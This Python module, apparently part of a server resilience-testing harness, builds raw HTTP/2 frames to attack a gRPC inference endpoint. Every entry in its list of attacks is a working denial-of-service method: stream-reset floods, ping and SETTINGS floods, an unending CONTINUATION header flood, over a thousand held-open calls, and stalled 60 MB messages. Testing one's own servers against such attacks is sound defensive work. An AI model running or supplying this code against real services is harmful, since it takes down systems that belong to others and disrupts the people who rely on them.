"""What hurts where gRPC is answered: frames of HTTP/2 (RFC 9113), and calls that do not end."""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable, Iterator

from bench.attack.connections import Wire, connect, send_all
from bench.harness.load import HTTP2_PREFACE, grpc_frames

_INFER = "/inference.GRPCInferenceService/ModelInfer"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_FRAME_HEAD = 9
_BURST = 200
_MOST_BYTES = 16 * 2**20
_STREAMS = 90  # of a connection; a server takes a hundred


def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def _head_of(path: str) -> bytes:
    """The HPACK block of a call's head."""
    frames = grpc_frames(path, b"")
    return frames[_FRAME_HEAD : _FRAME_HEAD + int.from_bytes(frames[:3], "big")]


_HEAD = _head_of(_INFER)
_FIELD = b"\0" + bytes((3,)) + b"x-a" + bytes((100,)) + b"b" * 100


@contextlib.contextmanager
def _opened(port: int, timeout: float) -> Iterator[socket.socket]:
    with connect(port, timeout) as connection:
        send_all(connection, HTTP2_PREFACE)
        yield connection


def _flood(first: bytes, more: Callable[[int], bytes]) -> Callable[[int, float], str]:
    """`more`: of a number, the stream for what comes next."""

    def run(port: int, seconds: float) -> str:
        until, stream, rest = time.monotonic() + seconds / 2, 1, _MOST_BYTES
        with _opened(port, seconds) as connection:
            sent = send_all(connection, first)
            while sent and rest > 0 and time.monotonic() < until:
                burst = b"".join(more(stream + 2 * place) for place in range(_BURST))
                sent = send_all(connection, burst)
                stream += 2 * _BURST
                rest -= len(burst)
            return f"{stream // 2} sent" if sent else "closed"

    return run


def _given_up(message: bytes) -> Callable[[int], bytes]:
    """A call, and its end by the client."""

    def frames(stream: int) -> bytes:
        head = _frame(_HEADERS, 0x4, stream, _HEAD)
        return (
            head + (_frame(_DATA, 0x1, stream, message) if message else b"") + _frame(_RESET, 0, stream, b"\0\0\0\x08")
        )

    return frames


def _unfinished(connections: int, message: bytes) -> Callable[[int, float], str]:
    """Calls whose message does not end, as many as a connection may have."""

    def run(port: int, seconds: float) -> str:  # noqa: ARG001
        with contextlib.ExitStack() as stack:
            for _ in range(connections):
                connection = stack.enter_context(_opened(port, 2.0))
                for stream in range(1, 2 * _STREAMS, 2):
                    send_all(connection, _frame(_HEADERS, 0x4, stream, _HEAD) + _frame(_DATA, 0, stream, message))
            time.sleep(1.0)
            return f"{connections * _STREAMS} held"

    return run


def _large(connections: int) -> Callable[[int, float], str]:
    """Messages of 60 MB that stop where the server gives no more room."""

    def run(port: int, seconds: float) -> str:  # noqa: ARG001
        with contextlib.ExitStack() as stack:
            for _ in range(connections):
                connection = stack.enter_context(_opened(port, 0.5))
                send_all(connection, _frame(_HEADERS, 0x4, 1, _HEAD) + _frame(_DATA, 0, 1, b"\0\x03\x93\x87\0"))
                while send_all(connection, _frame(_DATA, 0, 1, bytes(16384)) * 8):
                    pass
            time.sleep(1.0)
            return f"{connections} stopped"

    return run


_SETTING = b"\0\4\0\0\xff\xff"
_UNENDING = b"\0\0\0\x40\0" + b"x" * 100
KINDS = [
    Wire("gRPC: calls that are given up at once", _flood(b"", _given_up(b""))),
    Wire("gRPC: calls that are given up behind their message", _flood(b"", _given_up(b"\0\0\0\0\x02\x0a\0"))),
    Wire("gRPC: pings without end", _flood(b"", lambda _: _frame(_PING, 0, 0, bytes(8)))),
    Wire("gRPC: settings without end", _flood(b"", lambda _: _frame(_SETTINGS, 0, 0, _SETTING))),
    Wire(
        "gRPC: a head without end",
        _flood(_frame(_HEADERS, 0, 1, _HEAD), lambda _: _frame(_CONTINUATION, 0, 1, _FIELD * 10)),
        known="the gRPC library bounds no head",
    ),
    Wire("gRPC: 1,800 calls that do not end", _unfinished(20, _UNENDING)),
    Wire("gRPC: 10 messages of 60 MB that stop", _large(10)),
]
